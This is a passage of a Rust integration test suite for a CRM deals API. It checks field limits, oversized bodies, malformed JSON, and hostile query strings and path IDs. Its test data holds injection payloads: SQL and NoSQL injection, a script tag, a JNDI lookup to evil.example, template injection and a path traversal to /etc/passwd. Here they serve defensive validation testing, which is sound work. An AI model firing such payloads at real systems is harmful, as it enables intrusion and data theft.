            r#"{"name":"s","position":1e308}"#.to_owned(),
        ),
        (
            "/api/v1/crm/pipelines/default/stages".to_owned(),
            r#"{"name":"s","probability":1e400}"#.to_owned(),
        ),
    ] {
        let response = api
            .call(Method::POST, &uri)
            .header("content-type", "application/json")
            .raw_body(body.clone())
            .send()
            .await;
        assert_eq!(response.status, 400, "{body}: {}", response.body);
        refusal(&response, &body, &uri);
    }
    // The largest accepted values are stored as given.
    let max = api
        .create(json!({"name": "max", "value": 1_000_000_000_000_000_u64, "probability": 100, "custom_fields": {"big": 1e124, "small": 1e-100, "neg": -1e124}}))
        .await;
    assert_eq!(max["value"], json!(1_000_000_000_000_000_u64));
    let read = get(&api, &format!("{DEALS}/{}", id_of(&max))).await;
    assert_eq!(read.body["data"]["value"], json!(1_000_000_000_000_000_u64));
    assert_eq!(
        read.body["data"]["custom_fields"],
        json!({"big": 1e124, "small": 1e-100, "neg": -1e124})
    );
    assert_eq!(get(&api, &path).await.body["data"]["version"], 1);
}

/// A string of `n` four-byte characters, each position distinct from its neighbours' so that
/// lists of them are not de-duplicated: `seed` varies the first character.
fn wide(n: usize, seed: u32) -> String {
    let first = char::from_u32(0x1F600 + seed % 0x50).expect("emoji");
    std::iter::once(first)
        .chain(std::iter::repeat('😀'))
        .take(n)
        .collect()
}

fn distinct_items(count: usize, chars: usize) -> Vec<String> {
    (0..count)
        .map(|i| {
            let mut item = format!("{i:03}");
            item.push_str(&"x".repeat(chars - 3));
            item
        })
        .collect()
}

#[tokio::test]
async fn text_and_list_fields_at_their_limits_pass_and_past_them_are_400() {
    let api = TestApi::new().await;
    let deal = id_of(&api.create(json!({"name": "target"})).await);
    let path = format!("{DEALS}/{deal}");
    let short = [
        "forecast_category",
        "deal_type",
        "deal_source",
        "loss_category",
    ];
    let long = ["loss_reason", "closure_notes"];
    let lists = [
        "competitors",
        "quote_ids",
        "proposal_ids",
        "attachment_refs",
    ];
    let mut at_limit = vec![
        ("name", json!("n".repeat(255))),
        ("name", json!(wide(255, 1))),
        (
            "name",
            json!(format!("{}x{}", " ".repeat(300), " ".repeat(300))),
        ),
        ("tags", json!(distinct_items(100, 64))),
        ("tags", json!([wide(64, 2)])),
        ("custom_fields", json!({"k": "v".repeat(16 * 1024 - 20)})),
        ("custom_fields", json!({"a": {"b": {"c": {"d": {"e": 1}}}}})),
        ("custom_fields", json!({"a": {"b": {"c": {"d": [1]}}}})),
    ];
    let mut past_limit = vec![
        ("name", json!("n".repeat(256))),
        ("name", json!(wide(256, 1))),
        ("name", json!("")),
        ("name", json!("   \t\n ")),
        ("tags", json!(distinct_items(101, 10))),
        ("tags", json!(["t".repeat(65)])),
        ("tags", json!([wide(65, 2)])),
        ("custom_fields", json!({"k": "v".repeat(16 * 1024)})),
        (
            "custom_fields",
            json!({"a": {"b": {"c": {"d": {"e": {"f": 1}}}}}}),
        ),
        (
            "custom_fields",
            json!({"a": {"b": {"c": {"d": {"e": [1]}}}}}),
        ),
        ("custom_fields", json!({"a": [[[[[1]]]]]})),
        (
            "contact_ids",
            json!((0..41)
                .map(|i| format!("con-00000000-0000-4000-8000-{i:012}"))
                .collect::<Vec<_>>()),
        ),
        (
            "linked_task_ids",
            json!((0..101)
                .map(|i| format!("tsk-00000000-0000-4000-8000-{i:012}"))
                .collect::<Vec<_>>()),
        ),
    ];
    for field in short {
        at_limit.push((field, json!("s".repeat(255))));
        at_limit.push((field, json!(wide(255, 3))));
        past_limit.push((field, json!("s".repeat(256))));
        past_limit.push((field, json!(wide(256, 3))));
    }
    for field in long {
        at_limit.push((field, json!("l".repeat(10_000))));
        past_limit.push((field, json!("l".repeat(10_001))));
        past_limit.push((field, json!(wide(10_001, 4))));
    }
    for field in lists {
        at_limit.push((field, json!(distinct_items(100, 255))));
        past_limit.push((field, json!(distinct_items(101, 5))));
        past_limit.push((field, json!(["i".repeat(256)])));
        past_limit.push((field, json!([wide(256, 5)])));
    }
    for (field, value) in &at_limit {
        let mut create = json!({"name": "x"});
        create[*field] = value.clone();
        let created = send_with(&api, Method::POST, DEALS, Some(&create)).await;
        assert_eq!(
            created.status, 201,
            "{field} at its limit: {}",
            created.body
        );
        let mut patch = json!({});
        patch[*field] = value.clone();
        let patched = send_with(&api, Method::PATCH, &path, Some(&patch)).await;
        assert_eq!(
            patched.status, 200,
            "{field} at its limit: {}",
            patched.body
        );
        let stored = &patched.body["data"][*field];
        match value {
            Value::String(text) => assert_eq!(stored.as_str(), Some(text.trim()), "{field}"),
            other => assert_eq!(stored, other, "{field}"),
        }
    }
    let version = get(&api, &path).await.body["data"]["version"].clone();
    for (field, value) in &past_limit {
        let mut create = json!({"name": "x"});
        create[*field] = value.clone();
        if create.to_string().len() <= 64 * 1024 {
            assert_field_refused(&api, Method::POST, DEALS, &create, field).await;
        }
        let mut patch = json!({});
        patch[*field] = value.clone();
        if patch.to_string().len() <= 64 * 1024 {
            assert_field_refused(&api, Method::PATCH, &path, &patch, field).await;
        }
    }
    assert_eq!(get(&api, &path).await.body["data"]["version"], version);
    // Records and pipelines.
    for (uri, field, base) in [
        ("/api/v1/crm/accounts", "name", json!({})),
        ("/api/v1/crm/contacts", "first_name", json!({})),
        (
            "/api/v1/crm/contacts",
            "last_name",
            json!({"first_name": "x"}),
        ),
        ("/api/v1/crm/users", "full_name", json!({})),
    ] {
        let mut ok = base.clone();
        ok[field] = json!(wide(255, 6));
        let response = send_with(&api, Method::POST, uri, Some(&ok)).await;
        assert_eq!(response.status, 201, "{uri} {field}: {}", response.body);
        let mut too_long = base;
        too_long[field] = json!(wide(256, 6));
        assert_field_refused(&api, Method::POST, uri, &too_long, field).await;
    }
    // Pipeline and stage names are shorter: every deal request reads its pipeline.
    let pipelines = "/api/v1/crm/pipelines";
    let response = send_with(
        &api,
        Method::POST,
        pipelines,
        Some(&json!({"name": wide(100, 6)})),
    )
    .await;
    assert_eq!(response.status, 201, "{}", response.body);
    let too_long = json!({"name": wide(101, 6)});
    assert_field_refused(&api, Method::POST, pipelines, &too_long, "name").await;
    let stages: Vec<Value> = (0..51).map(|i| json!({"name": format!("s{i}")})).collect();
    let response = send_with(
        &api,
        Method::POST,
        "/api/v1/crm/pipelines",
        Some(&json!({"name": "p", "stages": stages})),
    )
    .await;
    expect_error(
        &response,
        400,
        "VALIDATION_ERROR",
        "51 stages",
        "/api/v1/crm/pipelines",
    );
}

#[tokio::test]
async fn bodies_over_64_kib_are_413() {
    let api = TestApi::new().await;
    let deal = id_of(&api.create(json!({"name": "target"})).await);
    let account = api.account("Target").await;
    let limit = 64 * 1024;
    // A valid object padded with blanks to exactly `size` bytes.
    let padded = |body: &Value, size: usize| {
        let mut text = body.to_string();
        text.insert_str(1, &" ".repeat(size - text.len()));
        text
    };
    let cases: Vec<(Method, String, Value)> = vec![
        (Method::POST, DEALS.into(), json!({"name": "big"})),
        (
            Method::PATCH,
            format!("{DEALS}/{deal}"),
            json!({"name": "big"}),
        ),
        (
            Method::PATCH,
            format!("{DEALS}/{deal}/stage"),
            json!({"stage": "qualified"}),
        ),
        (
            Method::POST,
            "/api-v1-deals".into(),
            json!({"title": "big"}),
        ),
        (
            Method::PATCH,
            format!("/api-v1-deals/{deal}"),
            json!({"title": "big"}),
        ),
        (
            Method::PATCH,
            format!("/api-v1-deals/{deal}/stage"),
            json!({"stage_id": "qualified"}),
        ),
        (
            Method::POST,
            "/api/v1/crm/accounts".into(),
            json!({"name": "big"}),
        ),
        (
            Method::PATCH,
            format!("/api/v1/crm/accounts/{account}"),
            json!({"name": "big"}),
        ),
        (
            Method::POST,
            "/api/v1/crm/users".into(),
            json!({"full_name": "big"}),
        ),
        (
            Method::POST,
            "/api/v1/crm/contacts".into(),
            json!({"first_name": "big"}),
        ),
        (
            Method::POST,
            "/api/v1/crm/pipelines".into(),
            json!({"name": "big"}),
        ),
        (
            Method::PATCH,
            "/api/v1/crm/pipelines/default".into(),
            json!({"name": "big"}),
        ),
        (
            Method::POST,
            "/api/v1/crm/pipelines/default/stages".into(),
            json!({"name": "big"}),
        ),
        (
            Method::PATCH,
            "/api/v1/crm/pipelines/default/stages/lead".into(),
            json!({"name": "big"}),
        ),
    ];
    for (method, uri, body) in &cases {
        for (what, raw) in [
            (
                "one byte over, valid JSON",
                padded(body, limit + 1).into_bytes(),
            ),
            (
                "a megabyte of valid JSON",
                padded(body, 1024 * 1024).into_bytes(),
            ),
            ("a megabyte of garbage", vec![b'x'; 1024 * 1024]),
            (
                "a long name",
                json!({"name": "n".repeat(limit)}).to_string().into_bytes(),
            ),
        ] {
            let response = api
                .call(method.clone(), uri)
                .header("content-type", "application/json")
                .raw_body(raw)
                .send()
                .await;
            expect_error(
                &response,
                413,
                "PAYLOAD_TOO_LARGE",
                &format!("{method} {what}"),
                uri,
            );
        }
    }
    // Exactly 64 KiB is accepted.
    for (method, uri, body) in &cases[..2] {
        let response = api
            .call(method.clone(), uri)
            .header("content-type", "application/json")
            .raw_body(padded(body, limit))
            .send()
            .await;
        assert!(
            response.status == 200 || response.status == 201,
            "{method} {uri}: {} {}",
            response.status,
            response.body
        );
    }
    let deals = get(&api, DEALS).await;
    assert_eq!(deals.body["pagination"]["total"], 2, "{}", deals.body);
}

/// Strings that look like injections, keys, markup or control sequences.
fn hostile_strings() -> Vec<String> {
    [
        "'; DROP TABLE deals; --",
        "{\"$ne\":null}",
        "{\"$gt\":\"\"}",
        "<script>alert(1)</script>",
        "TENANT#x#DEAL#y",
        "#",
        "a\u{0}b",
        "\u{0}",
        "c\u{1}d\u{7}e\u{1b}[31mred",
        "\u{1}",
        "line\nbreak\ttab\rreturn\u{b}\u{c}end",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "../../etc/passwd",
        "%00%2F%23%",
        "\u{202e}rtl\u{200b}zero\u{feff}bom",
        "😀 emoji 𝕏",
        "\\\"quoted\\\"",
        "\u{7f}\u{80}\u{9f}",
        "\u{fffd}\u{fffe}\u{ffff}",
        "attribute_exists(pk) OR 1=1",
        ":v, #n",
        "null",
    ]
    .into_iter()
    .map(String::from)
    .collect()
}

fn percent_encode(text: &str) -> String {
    text.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
                char::from(b).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

#[tokio::test]
async fn hostile_strings_are_stored_and_read_back_verbatim() {
    let api = TestApi::new().await;
    let strings = hostile_strings();
    let custom: serde_json::Map<String, Value> = strings
        .iter()
        .enumerate()
        .map(|(i, s)| (s.clone(), json!({"value": s, "list": [s], "index": i})))
        .collect();
    let custom = Value::Object(custom);
    let mut ids = Vec::new();
    for (i, text) in strings.iter().enumerate() {
        let body = json!({
            "name": text, "tags": [text, format!("t{i}")], "custom_fields": custom,
            "forecast_category": text, "loss_reason": text, "competitors": [text],
        });
        let created = send_with(&api, Method::POST, DEALS, Some(&body)).await;
        assert_eq!(created.status, 201, "{text:?}: {}", created.body);
        let id = id_of(&created.body["data"]);
        for (what, deal) in [
            ("create", created.body["data"].clone()),
            (
                "get",
                get(&api, &format!("{DEALS}/{id}")).await.body["data"].clone(),
            ),
        ] {
            assert_eq!(
                deal["name"].as_str(),
                Some(text.as_str()),
                "{what} {text:?}"
            );
            assert_eq!(
                deal["tags"],
                json!([text, format!("t{i}")]),
                "{what} {text:?}"
            );
            assert_eq!(deal["custom_fields"], custom, "{what} {text:?}");
            assert_eq!(
                deal["forecast_category"].as_str(),
                Some(text.as_str()),
                "{what}"
            );
            assert_eq!(deal["loss_reason"].as_str(), Some(text.as_str()), "{what}");
            assert_eq!(deal["competitors"], json!([text]), "{what}");
        }
        let documented = get(&api, &format!("/api-v1-deals/{id}")).await;
        assert_eq!(
            documented.body["data"]["title"].as_str(),
            Some(text.as_str())
        );
        assert_eq!(documented.body["data"]["metadata"], custom);
        // Found by its exact name and tag, and by nothing else.
        for query in [
            format!("name={}", percent_encode(text)),
            format!("tags={}", percent_encode(text)),
            format!("name={}&tags=t{i}", percent_encode(text)),
        ] {
            let uri = format!("{DEALS}?{query}");
            let found = get(&api, &uri).await;
            assert_eq!(found.status, 200, "{uri}: {}", found.body);
            assert_eq!(
                data_ids(&found.body),
                std::slice::from_ref(&id),
                "{text:?}: {uri}"
            );
        }
        ids.push(id);
    }
    // A PATCH writes them verbatim too.
    let target = &ids[0];
    for text in &strings {
        let patched = send_with(
            &api,
            Method::PATCH,
            &format!("{DEALS}/{target}"),
            Some(&json!({"name": text, "tags": [text]})),
        )
        .await;
        assert_eq!(patched.status, 200, "{text:?}: {}", patched.body);
        let read = get(&api, &format!("{DEALS}/{target}")).await;
        assert_eq!(read.body["data"]["name"].as_str(), Some(text.as_str()));
        assert_eq!(read.body["data"]["tags"], json!([text]));
    }
    // Every sort reads them back, each deal once.
    for sort in ["name", "-name", "value", "-updated_at", "created_at"] {
        let uri = format!("{DEALS}?sort={sort}&limit=100");
        let listed = get(&api, &uri).await;
        assert_eq!(listed.status, 200, "{uri}: {}", listed.body);
        let mut listed_ids = data_ids(&listed.body);
        listed_ids.sort();
        let mut expected = ids.clone();
        expected.sort();
        assert_eq!(listed_ids, expected, "{uri}");
    }
    // Records and pipelines keep them verbatim as well.
    for text in &strings {
        for (collection, field) in [
            ("accounts", "name"),
            ("contacts", "first_name"),
            ("users", "full_name"),
            ("pipelines", "name"),
        ] {
            let mut body = json!({});
            body[field] = json!(text);
            let created = api.create_in(collection, body).await;
            assert_eq!(created[field].as_str(), Some(text.as_str()), "{collection}");
            let read = get(
                &api,
                &format!("/api/v1/crm/{collection}/{}", id_of(&created)),
            )
            .await;
            assert_eq!(
                read.body["data"][field].as_str(),
                Some(text.as_str()),
                "{collection}"
            );
        }
    }
}

#[tokio::test]
async fn empty_and_nested_values_in_custom_fields_round_trip_or_are_refused() {
    let api = TestApi::new().await;
    let deal = id_of(&api.create(json!({"name": "target"})).await);
    let path = format!("{DEALS}/{deal}");
    for custom in [
        json!({"": 1}),
        json!({"": ""}),
        json!({"a": {"": 1}}),
        json!({"a": [{"": 1}]}),
        json!({"a": {"b": {"c": {"": 1}}}}),
    ] {
        assert_field_refused(
            &api,
            Method::POST,
            DEALS,
            &json!({"name": "x", "custom_fields": custom}),
            "custom_fields",
        )
        .await;
        assert_field_refused(
            &api,
            Method::PATCH,
            &path,
            &json!({"custom_fields": custom}),
            "custom_fields",
        )
        .await;
        assert_field_refused(
            &api,
            Method::POST,
            "/api-v1-deals",
            &json!({"title": "x", "metadata": custom}),
            "metadata",
        )
        .await;
    }
    assert_eq!(get(&api, &path).await.body["data"]["version"], 1);
    for custom in [
        json!({"s": "", "n": 0, "f": false, "t": true}),
        json!({"list": [], "map": {}, "nested": {"list": [[], {}], "s": ""}}),
        json!({"mixed": [1, "a", true, {"k": "v"}, [2]]}),
        json!({"null": null, "in": {"list": [null]}}),
    ] {
        let created = send_with(
            &api,
            Method::POST,
            DEALS,
            Some(&json!({"name": "x", "custom_fields": custom})),
        )
        .await;
        assert_eq!(created.status, 201, "{custom}: {}", created.body);
        let read = get(&api, &format!("{DEALS}/{}", id_of(&created.body["data"]))).await;
        assert_eq!(
            read.body["data"]["custom_fields"], custom,
            "created and read back"
        );
    }
}

/// Every endpoint that reads a JSON body, with a deal, an account and a pipeline to aim at.
async fn write_endpoints(api: &TestApi) -> Vec<(Method, String)> {
    let deal = id_of(&api.create(json!({"name": "target"})).await);
    let account = api.account("Target").await;
    let pipeline = id_of(&api.create_in("pipelines", json!({"name": "Target"})).await);
    vec![
        (Method::POST, DEALS.into()),
        (Method::PATCH, format!("{DEALS}/{deal}")),
        (Method::PATCH, format!("{DEALS}/{deal}/stage")),
        (Method::POST, "/api-v1-deals".into()),
        (Method::PATCH, format!("/api-v1-deals/{deal}")),
        (Method::PATCH, format!("/api-v1-deals/{deal}/stage")),
        (Method::POST, "/api/v1/crm/accounts".into()),
        (Method::PATCH, format!("/api/v1/crm/accounts/{account}")),
        (Method::POST, "/api/v1/crm/contacts".into()),
        (Method::POST, "/api/v1/crm/users".into()),
        (Method::POST, "/api/v1/crm/pipelines".into()),
        (Method::PATCH, format!("/api/v1/crm/pipelines/{pipeline}")),
        (
            Method::POST,
            format!("/api/v1/crm/pipelines/{pipeline}/stages"),
        ),
        (
            Method::PATCH,
            "/api/v1/crm/pipelines/default/stages/lead".into(),
        ),
    ]
}

#[tokio::test]
async fn malformed_json_bodies_are_400() {
    let api = TestApi::new().await;
    let endpoints = write_endpoints(&api).await;
    let deep_objects = format!("{}1{}", r#"{"a":"#.repeat(10_000), "}".repeat(10_000));
    let deep_arrays = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
    let deep_custom = format!(
        r#"{{"name":"x","custom_fields":{}1{}}}"#,
        r#"{"a":"#.repeat(10_000),
        "}".repeat(10_000)
    );
    let unclosed = r#"{"a":"#.repeat(10_000);
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("10,000-deep objects", deep_objects.into_bytes()),
        ("10,000-deep arrays", deep_arrays.into_bytes()),
        ("10,000-deep custom_fields", deep_custom.into_bytes()),
        ("10,000 unclosed objects", unclosed.into_bytes()),
        (
            "invalid UTF-8 in a string",
            b"{\"name\":\"\xff\xfe\"}".to_vec(),
        ),
        (
            "invalid UTF-8 continuation",
            b"{\"name\":\"\xc3\x28\"}".to_vec(),
        ),
        ("overlong UTF-8", b"{\"name\":\"\xc0\xaf\"}".to_vec()),
        (
            "UTF-16 surrogate bytes",
            b"{\"name\":\"\xed\xa0\x80\"}".to_vec(),
        ),
        ("invalid UTF-8 alone", b"\xff\xfe\xfd".to_vec()),
        (
            "UTF-16 body",
            "{\"name\":\"x\"}"
                .encode_utf16()
                .flat_map(u16::to_le_bytes)
                .collect(),
        ),
        ("lone surrogate escape", br#"{"name":"\ud800"}"#.to_vec()),
        ("a JSON string", br#""{\"name\":\"x\"}""#.to_vec()),
        ("a JSON number", b"1".to_vec()),
        ("a huge JSON number", b"1e400".to_vec()),
        ("JSON null", b"null".to_vec()),
        ("JSON true", b"true".to_vec()),
        ("an empty array", b"[]".to_vec()),
        (
            "an array of the object",
            br#"[{"name":"x","title":"x","stage":"qualified"}]"#.to_vec(),
        ),
        ("not JSON", b"nope".to_vec()),
        ("single quotes", b"{'name': 'x'}".to_vec()),
        ("unquoted keys", b"{name: \"x\"}".to_vec()),
        ("unterminated", br#"{"name":"x""#.to_vec()),
        ("trailing comma", br#"{"name":"x",}"#.to_vec()),
        ("trailing garbage", br#"{"name":"x"} {}"#.to_vec()),
        ("NaN", br#"{"value":NaN}"#.to_vec()),
        ("Infinity", br#"{"value":Infinity}"#.to_vec()),
        ("a comment", br#"{"name":"x" /* c */}"#.to_vec()),
        ("a NUL byte", b"{\"name\":\"x\"}\x00".to_vec()),
        (
            "a raw control character in a string",
            b"{\"name\":\"a\x01b\"}".to_vec(),
        ),
    ];
    for (method, uri) in &endpoints {
        for (what, body) in &cases {
            let response = api
                .call(method.clone(), uri)
                .header("content-type", "application/json")
                .raw_body(body.clone())
                .send()
                .await;
            let what = format!("{method} {what}");
            expect_error(&response, 400, "INVALID_REQUEST", &what, uri);
        }
        // Odd but harmless: never a 5xx.
        for (what, body) in [
            ("byte order mark", b"\xef\xbb\xbf{\"name\":\"x\"}".to_vec()),
            ("duplicate keys", br#"{"name":"a","name":"b"}"#.to_vec()),
            ("empty", Vec::new()),
            ("blanks", b" \n\t ".to_vec()),
        ] {
            let response = api
                .call(method.clone(), uri)
                .header("content-type", "application/json")
                .raw_body(body)
                .send()
                .await;
            no_server_error(&response, what, uri);
        }
    }
    // Non-JSON content types change nothing: still refused as JSON.
    for content_type in [
        "text/plain",
        "application/x-www-form-urlencoded",
        "application/xml",
    ] {
        let response = api
            .call(Method::POST, DEALS)
            .header("content-type", content_type)
            .raw_body("name=x&value=1")
            .send()
            .await;
        expect_error(&response, 400, "INVALID_REQUEST", content_type, DEALS);
    }
    let deals = get(&api, DEALS).await;
    // The target (renamed by a duplicate-key PATCH: the last key wins) and one duplicate-key
    // create; nothing else was written.
    let names: Vec<&str> = deals.body["data"]
        .as_array()
        .expect("list")
        .iter()
        .filter_map(|deal| deal["name"].as_str())
        .collect();
    assert_eq!(names.len(), 2, "{names:?}");
    assert!(
        names.iter().all(|name| ["target", "b"].contains(name)),
        "{names:?}"
    );
}

#[tokio::test]
async fn hostile_query_strings_are_4xx_never_5xx() {
    let api = TestApi::new().await;
    let deal = id_of(
        &api.create(json!({"name": "target", "value": 10, "tags": ["t"]}))
            .await,
    );
    api.create(json!({"name": "second"})).await;
    let many_tags: String = (0..300).map(|i| format!("tags=t{i}&")).collect();
    let many_unknown: String = (0..300).map(|i| format!("x{i}=1&")).collect();
    let many_ops: String = ["eq", "ne", "gt", "gte", "lt", "lte", "in"]
        .iter()
        .flat_map(|op| {
            [
                "value",
                "probability",
                "created_at",
                "updated_at",
                "expected_close_date",
            ]
            .iter()
            .map(move |field| format!("{field}[{op}]=1&"))
        })
        .collect();
    let long_value = format!("name={}", "a".repeat(100_000));
    let many_in = format!("name[in]={}", ",".repeat(10_000));
    let many_wildcards = format!("name[like]={}", "%25".repeat(5_000));
    let long_cursor = format!("cursor={}", "A".repeat(10_000));
    let long_stage = format!("stage={}", "s".repeat(65));
    let long_owner = format!("owner_id=usr-{}", "0".repeat(1000));
    // Documented as 400: wrong types, unknown fields or operators, bad pages and sorts.
    let refused = [
        "value[gte]=1e400",
        "value=1e400",
        "value[lt]=-1e400",
        "value=NaN",
        "value=inf",
        "value[gte]=abc",
        "probability[gt]=1e308x",
        "value[in]=1,2,1e999",
        "%ZZ=1",
        "name[foo]=x",
        "name[=x",
        "name]=x",
        "[]=x",
        "=x",
        "value[like]=1",
        "owner_id[gt]=usr-1",
        "sort=--value",
        "sort=-",
        "sort=",
        "sort=value,name",
        "sort=password",
        "limit=-1",
        "limit=0",
        "limit=1e2",
        "limit=101",
        "limit=99999999999999999999",
        "per_page=1000",
        "per_page=-5",
        "page=0",
        "page=-1",
        "page=1.5",
        "page=99999999999999999999",
        "page=18446744073709551615",
        "page=5000",
        "page=2&cursor=abc",
        "limit=10&per_page=20",
        "include=everything",
        "include=account,passwords",
        "include=%00",
        "cursor=",
        "cursor=%FF%FE",
        "cursor=eyJ0ZW5hbnQiOiJ4In0",
        "created_at[gte]=9999-99-99",
        "created_at=+275760-09-13",
        "expected_close_date[lt]=0000-00-00",
        "expected_close_date=2026-02-30",
        "stage=lead&stage=qualified",
        "name=a&name=b",
        "owner_id=usr-%00",
        "account_id=acc-'%20OR%20'1'='1",
        many_tags.as_str(),
        many_unknown.as_str(),
        long_cursor.as_str(),
        long_stage.as_str(),
        long_owner.as_str(),
    ];
    // Harmless oddities: whatever the answer, never a 5xx.
    let tolerated = [
        "name=%FF%FE",
        "%ZZ",
        "name=%ZZ",
        "%",
        "name=%00",
        "name=%",
        "name=%2",
        "name[like]=%25%25%25",
        "name[like]=_",
        "name[like]=%5C",
        "include=,,,",
        "include=account,,account",
        "&&&",
        "a=b=c",
        "name=a+b",
        "name=TENANT%23x%23DEAL%23y",
        "tags=%7B%22%24ne%22%3Anull%7D",
        "name=';%20DROP%20TABLE%20deals;%20--",
        "deal_number[like]=%25",
        "value[gte]=1e308",
        "value[lte]=-0",
        "value[gt]=1e-400",
        "created_at[gte]=1970-01-01",
        "created_at[lt]=9999-12-31T23:59:59Z",
        many_ops.as_str(),
        many_in.as_str(),
        many_wildcards.as_str(),
        long_value.as_str(),
    ];
    for query in refused {
        for base in [DEALS, "/api-v1-deals"] {
            let uri = format!("{base}?{query}");
            let response = get(&api, &uri).await;
            no_server_error(&response, "hostile query", &uri);
            if base == DEALS {
                let shown: String = uri.chars().take(200).collect();
                expect_error(&response, 400, "VALIDATION_ERROR", "hostile query", &shown);
            }
        }
    }
    for query in tolerated {
        for base in [DEALS, "/api-v1-deals"] {
            let uri = format!("{base}?{query}");
            let response = get(&api, &uri).await;
            no_server_error(&response, "odd query", &uri);
            if response.status == 200 {
                assert!(response.body["data"].is_array(), "{}", response.body);
            }
        }
    }
    // The other endpoints with query parameters.
    for uri in [
        format!("{DEALS}/{deal}?include=everything"),
        format!("{DEALS}/{deal}?include=%FF"),
        format!("{DEALS}/{deal}?x=1"),
        format!("{DEALS}/{deal}/history?limit=-1"),
        format!("{DEALS}/{deal}/history?cursor=%FF"),
        format!("{DEALS}/{deal}/history?cursor=eyJhZnRlciI6Ii0xIn0"),
        format!("{DEALS}/{deal}/history?{many_unknown}"),
        "/api/v1/crm/accounts?limit=0".to_owned(),
        "/api/v1/crm/accounts?limit=99999999999999999999".to_owned(),
        "/api/v1/crm/accounts?cursor=%FF%FE".to_owned(),
        "/api/v1/crm/accounts?cursor=eyJhZnRlciI6IlRFTkFOVCN4In0".to_owned(),
        "/api/v1/crm/contacts?cursor=bm90IGpzb24".to_owned(),
        "/api/v1/crm/users?page=1".to_owned(),
        "/api/v1/crm/stages?x=1".to_owned(),
        "/api/v1/crm/pipelines?limit=1".to_owned(),
    ] {
        let response = get(&api, &uri).await;
        let shown: String = uri.chars().take(200).collect();
        expect_error(&response, 400, "VALIDATION_ERROR", "hostile query", &shown);
    }
    let unchanged = get(&api, &format!("{DEALS}/{deal}")).await;
    assert_eq!(unchanged.body["data"]["version"], 1);
}

#[tokio::test]
async fn hostile_path_ids_are_404() {
    let api = TestApi::new().await;
    let deal = id_of(&api.create(json!({"name": "target"})).await);
    let account = api.account("Target").await;
    // The first deal stored the default pipeline; nothing below may write it again.
    let default_version =
        get(&api, "/api/v1/crm/pipelines/default").await.body["data"]["version"].clone();
    assert_eq!(default_version, 1);
    let mut ids = vec![
        "x".repeat(10_000),
        format!("deal_{}", "0".repeat(2_000)),
        format!("{deal}#x"),
        format!("{deal}%00"),
        format!("{deal}%2F"),
        format!("{deal}%23"),
        format!("{deal} "),
        deal.to_lowercase(),
        deal.to_uppercase(),
        format!("DEAL#{deal}"),
        format!("DELETED#DEAL#{deal}"),
        "TENANT#x#DEAL#y".to_owned(),
        "%2F".to_owned(),
        "a%2Fb".to_owned(),
        "..".to_owned(),
        ".".to_owned(),
        "%2e%2e".to_owned(),
        "#".to_owned(),
        "%23".to_owned(),
        "%00".to_owned(),
        "' OR '1'='1".to_owned(),
        "<script>".to_owned(),
        "{\"$ne\":null}".to_owned(),
        "😀".to_owned(),
        "%FF%FE".to_owned(),
        "deal_".to_owned(),
        "deal_01ARZ3NDEKTSV4RRFFQ69G5FAV".to_owned(),
        format!("{account}#x"),
        format!("ACCOUNT#{account}"),
        "acc-00000000-0000-0000-0000-000000000000".to_owned(),
        "acc-".to_owned(),
        "PIPELINE#default".to_owned(),
        "default#x".to_owned(),
        "default%00".to_owned(),
    ];
    ids.push(format!("{account}{}", "0".repeat(5_000)));
    let name = json!({"name": "hijacked"});
    for id in &ids {
        let cases: Vec<(Method, String, Option<Value>)> = vec![
            (Method::GET, format!("{DEALS}/{id}"), None),
            (Method::PATCH, format!("{DEALS}/{id}"), Some(name.clone())),
            (
                Method::PATCH,
                format!("{DEALS}/{id}/stage"),
                Some(json!({"stage": "qualified"})),
            ),
            (Method::DELETE, format!("{DEALS}/{id}"), None),
            (Method::GET, format!("{DEALS}/{id}/history"), None),
            (Method::GET, format!("/api-v1-deals/{id}"), None),
            (
                Method::PATCH,
                format!("/api-v1-deals/{id}"),
                Some(json!({"title": "hijacked"})),
            ),
            (
                Method::PATCH,
                format!("/api-v1-deals/{id}/stage"),
                Some(json!({"stage_id": "qualified"})),
            ),
            (Method::DELETE, format!("/api-v1-deals/{id}"), None),
            (Method::GET, format!("/api/v1/crm/accounts/{id}"), None),
            (
                Method::PATCH,
                format!("/api/v1/crm/accounts/{id}"),
                Some(name.clone()),
            ),
            (Method::DELETE, format!("/api/v1/crm/accounts/{id}"), None),
            (Method::GET, format!("/api/v1/crm/contacts/{id}"), None),
            (
                Method::PATCH,
                format!("/api/v1/crm/contacts/{id}"),
                Some(json!({"first_name": "x"})),
            ),
            (
                Method::DELETE,
                format!("/api/v1/crm/contacts/{id}?deals=detach"),
                None,
            ),
            (Method::GET, format!("/api/v1/crm/users/{id}"), None),
            (
                Method::PATCH,
                format!("/api/v1/crm/users/{id}"),
                Some(json!({"full_name": "x"})),
            ),
            (
                Method::DELETE,
                format!("/api/v1/crm/users/{id}?deals=unassign"),
                None,
            ),
            (Method::GET, format!("/api/v1/crm/pipelines/{id}"), None),
            (
                Method::PATCH,
                format!("/api/v1/crm/pipelines/{id}"),
                Some(name.clone()),
            ),
            (Method::DELETE, format!("/api/v1/crm/pipelines/{id}"), None),
            (
                Method::GET,
                format!("/api/v1/crm/pipelines/{id}/stages"),
                None,
            ),
            (
                Method::POST,
                format!("/api/v1/crm/pipelines/{id}/stages"),
                Some(name.clone()),
            ),
            (
                Method::PATCH,
                format!("/api/v1/crm/pipelines/default/stages/{id}"),
                Some(name.clone()),
            ),
            (
                Method::DELETE,
                format!("/api/v1/crm/pipelines/default/stages/{id}"),
                None,
            ),
            (
                Method::PATCH,
                format!("/api/v1/crm/pipelines/{id}/stages/lead"),
                Some(name.clone()),
            ),
            (
                Method::DELETE,
                format!("/api/v1/crm/pipelines/{id}/stages/lead"),
                None,
            ),
        ];
        for (method, uri, body) in cases {
            let response = send_with(&api, method.clone(), &uri, body.as_ref()).await;
            let shown: String = uri.chars().take(120).collect();
            expect_error(&response, 404, "NOT_FOUND", &format!("{method}"), &shown);
        }
    }
    let unchanged = get(&api, &format!("{DEALS}/{deal}")).await;
    assert_eq!(unchanged.body["data"]["version"], 1);
    assert_eq!(unchanged.body["data"]["name"], "target");
    let account = get(&api, &format!("/api/v1/crm/accounts/{account}")).await;
    assert_eq!(account.body["data"]["version"], 1);
    let pipelines = get(&api, "/api/v1/crm/pipelines").await;
